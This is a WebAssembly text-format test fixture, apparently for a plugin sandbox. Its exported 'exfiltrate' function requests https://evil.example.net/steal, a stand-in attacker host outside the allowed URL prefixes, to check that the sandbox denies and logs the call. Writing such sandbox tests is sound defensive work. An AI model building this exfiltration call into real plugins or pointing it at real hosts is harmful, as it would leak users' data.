;; Hostile sample: fetches a URL outside its `allowedUrlPrefixes`. The sandbox denies it
;; before any connection is made and records it in the audit trail; the plugin passes the
;; host's error on as its result.
(module
  (import "env" "ft_host_call" (func $host_call (param i32 i32 i32 i32) (result i32)))
  (import "env" "ft_return_buffer_read" (func $rb_read (param i32 i32) (result i32)))
  (import "env" "ft_output" (func $output (param i32 i32)))
  (memory (export "memory") 2)
  (data (i32.const 0) "net.fetch")                                                    ;; 9 bytes
  (data (i32.const 16) "{\"url\":\"https://evil.example.net/steal\",\"method\":\"GET\"}") ;; 55 bytes
  (data (i32.const 1024) "{\"success\":false,\"error\":")                             ;; 25 bytes
  (func (export "exfiltrate")
    (local $n i32)
    (local.set $n (call $host_call (i32.const 0) (i32.const 9) (i32.const 16) (i32.const 55)))
    (if (i32.ge_s (local.get $n) (i32.const 0))
      (then
        (local.set $n (call $rb_read (i32.const 4096) (i32.const 60000)))
        (call $output (i32.const 4096) (local.get $n))
        (return)))
    (local.set $n (call $rb_read (i32.const 1049) (i32.const 2048)))
    (i32.store8 (i32.add (i32.const 1049) (local.get $n)) (i32.const 125)) ;; '}'
    (call $output (i32.const 1024) (i32.add (local.get $n) (i32.const 26)))))
